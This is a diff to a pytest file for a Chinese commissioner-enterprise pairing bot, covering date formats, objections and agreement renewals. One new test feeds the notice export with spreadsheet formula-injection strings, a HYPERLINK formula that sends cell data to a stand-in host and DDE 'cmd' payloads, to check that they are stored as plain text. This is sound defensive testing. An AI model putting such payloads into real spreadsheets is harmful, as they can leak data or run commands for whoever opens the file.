@@ -104,7 +104,7 @@ async def test_need_to_three_party_agreement_with_a_dismissed_objection(people, 
     for person in (SUN, PINGDING):
         assert "只有市科技局" in alerts(await h.press(person, confirm))[0]
     await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
-    assert "公示期 2026-03-17 至 2026-03-23" in texts(h.session.requests)[-1]  # 5 working days
+    assert "公示期 2026年3月17日 至 2026年3月23日" in texts(h.session.requests)[-1]  # 5 working days
     [pairing] = await rows(h, Pairing)
     assert (pairing.status, pairing.notice_start, pairing.notice_end) == ("notice", date(2026, 3, 17),
                                                                          date(2026, 3, 23))
@@ -157,7 +157,7 @@ async def test_need_to_three_party_agreement_with_a_dismissed_objection(people, 
     assert "待签订" in (await h.send(TAIFENG, "/sign"))[0]
     await inbox(h, TAIFENG).press("✍️ 确认签订协议")
     await inbox(h, U02).press("✍️ 确认签订协议")
-    assert "协议生效：2026-03-24 至 2027-03-23" in texts(h.session.requests)[-1]
+    assert "协议生效：2026年3月24日 至 2027年3月23日" in texts(h.session.requests)[-1]
 
     [pairing] = await rows(h, Pairing)
     [agreement] = await rows(h, Agreement, Agreement.id == pairing.agreement_id)
@@ -197,7 +197,7 @@ async def test_a_notice_without_objection_goes_to_signing(people, clock, policy)
     await h.drain()
     for person in (LI_QIANG, TAIFENG, U02):
         await inbox(h, person).press("✍️ 确认签订协议")
-    assert "协议生效：2026-01-01 至 2026-12-31" in texts(h.session.requests)[-1]
+    assert "协议生效：2026年1月1日 至 2026年12月31日" in texts(h.session.requests)[-1]
     [pairing] = await rows(h, Pairing)
     [agreement] = await rows(h, Agreement, Agreement.commissioner_id == pairing.commissioner_id)
     assert pairing.agreement_id == agreement.id and agreement.targets.endswith(pairing.need.expected_help)
@@ -248,7 +248,7 @@ async def test_without_public_notice_two_parties_sign(people, clock, policy) -> 
     await inbox(h, TAIFENG).press("✍️ 确认签订协议")
     assert "还在等待：科技特派员" in texts(h.session.requests)[-1]
     await inbox(h, SUN).press("✍️ 确认签订协议")
-    assert "协议生效：2026-03-16 至 2027-03-15" in texts(h.session.requests)[-1]
+    assert "协议生效：2026年3月16日 至 2027年3月15日" in texts(h.session.requests)[-1]
 
 
 async def test_long_lists_say_there_is_more(people, monkeypatch) -> None:
@@ -325,9 +325,31 @@ async def test_notice_list_export_for_admins_only(people, database_url, monkeypa
     monkeypatch.setenv("TEPAI_DATA_DIR", str(tmp_path))
     assert await asyncio.to_thread(main, ["notice", "--xlsx", str(tmp_path / "notice.xlsx")]) == 0
     out = capsys.readouterr().out
-    assert "孙悦（A002）— 平定县泰丰农业科技有限公司" in out and "公示期 2026-03-17 至 2026-03-23" in out
+    assert "孙悦（A002）— 平定县泰丰农业科技有限公司" in out and "公示期 2026年3月17日 至 2026年3月23日" in out
     assert "已写入" in out
     assert load_workbook(tmp_path / "notice.xlsx").active["C2"].value == "孙悦"
+
+
+async def test_notice_export_writes_formula_like_text_as_text(people) -> None:
+    """What an enterprise typed (or an import brought) never runs as a formula in the export."""
+    h = people
+    pairing = await choose_each_other(h, SUN, TAIFENG)
+    typed = {"field": "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "expected_help": "+1+cmd|' /C calc'!A0",
+             "enterprise": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    async with h.sessionmaker() as session:
+        need = await session.get(Need, pairing.need_id)
+        need.field, need.expected_help = typed["field"], typed["expected_help"]
+        need.enterprise.name = typed["enterprise"]
+        await session.commit()
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
+    walk = Walk(h, PINGDING)
+    await walk.send("/notice")
+    await walk.press("📥 导出公示名单")
+    [document] = [r for r in walk.seen if type(r).__name__ == "SendDocument"]
+    row = load_workbook(_bytes_of(document)).active[2]
+    for cell, value in ((row[5], typed["enterprise"]), (row[7], typed["field"]), (row[8], typed["expected_help"])):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
 
 
 def _bytes_of(document):  # noqa: ANN001, ANN202
@@ -358,7 +380,7 @@ async def test_renewal_offered_thirty_days_before_the_end(people, clock, policy)
     assert "等待对方答复" in texts(h.session.requests)[-1]
     assert "已经答复过" in alerts(await h.press(ZHANG, renew))[0]
     await inbox(h, LI_MING).press("✅ 同意续签")
-    assert "新协议：2027-01-01 至 2027-12-31" in texts(h.session.requests)[-1]
+    assert "新协议：2027年1月1日 至 2027年12月31日" in texts(h.session.requests)[-1]
     [renewed] = await rows(h, Agreement, Agreement.start_date == date(2027, 1, 1))
     assert (renewed.end_date, renewed.status, renewed.targets) == (date(2027, 12, 31), "active", None)
     assert "已经续签" in alerts(await h.press(LI_MING, renew))[0]
@@ -376,3 +398,57 @@ async def test_renewal_offered_thirty_days_before_the_end(people, clock, policy)
     assert "不再续签" in texts(h.session.requests)[-1]
     assert len(await rows(h, Agreement, Agreement.start_date == date(2027, 2, 1))) == 0
     assert "华鑫" in li_ming_offer
+
+
+async def test_one_objection_per_person_per_pairing(people) -> None:
+    h = people
+    await choose_each_other(h, LI_QIANG, TAIFENG)
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
+    walk = Walk(h, SUN)
+    await walk.send("/notice")
+    await walk.press("✋ 提出异议")
+    await h.send(SUN, "申报材料中的服务经历与事实不符，请核实。")
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("↩️ 异议不成立")
+    [pairing] = await rows(h, Pairing)
+    assert pairing.status == "notice"
+    # The same person cannot hold the pairing again, neither from the button nor from a kept draft.
+    again = await walk.press("✋ 提出异议")
+    assert "只能提出一次" in alerts(again)[0] and texts(again) == []
+    await h.dp.storage.set_state(h.state_key(SUN), "ObjectionForm:reason")
+    await h.dp.storage.set_data(h.state_key(SUN), {"pairing": pairing.id})
+    assert "只能提出一次" in (await h.send(SUN, "再次提出异议：服务经历与事实不符。"))[0]
+    assert len(await rows(h, Objection)) == 1
+    [pairing] = await rows(h, Pairing)
+    assert pairing.status == "notice"
+    # Someone else still may.
+    other = Walk(h, LI_MING)
+    await other.send("/notice")
+    await other.press("✋ 提出异议")
+    assert "已提交" in (await h.send(LI_MING, "该特派员与企业负责人存在亲属关系。"))[0]
+    assert len(await rows(h, Objection)) == 2
+
+
+async def test_a_renewal_decline_is_stored_and_told_once(people, clock, policy) -> None:
+    h = people
+    clock.set(datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI))
+    await tick(h, clock, policy)
+    await h.drain()
+    zhang = inbox(h, ZHANG)
+    huaxin = next(r for r in reversed(zhang.seen) if "阳泉华鑫" in (getattr(r, "text", "") or "")
+                  and "即将到期" in r.text)
+    decline = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "不再续签" in b.text)
+    renew = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "同意续签" in b.text)
+    mark = len(h.session.requests)
+    await h.press(ZHANG, decline)
+    assert "已经答复过" in alerts(await h.press(ZHANG, decline))[0]
+    assert "已经答复过" in alerts(await h.press(ZHANG, renew))[0]
+    await h.drain()
+    assert len([text for text in received(h, LI_MING, mark) if "不再续签" in text]) == 1
+    [agreement] = await rows(h, Agreement, Agreement.end_date == date(2026, 12, 31),
+                             Agreement.renew_commissioner_declined_at.is_not(None))
+    assert agreement.renew_commissioner_at is None
+    assert [e.action for e in await rows(h, AuditEntry, AuditEntry.action.startswith("agreement.renewal"))] \
+        == ["agreement.renewal_no"]
+
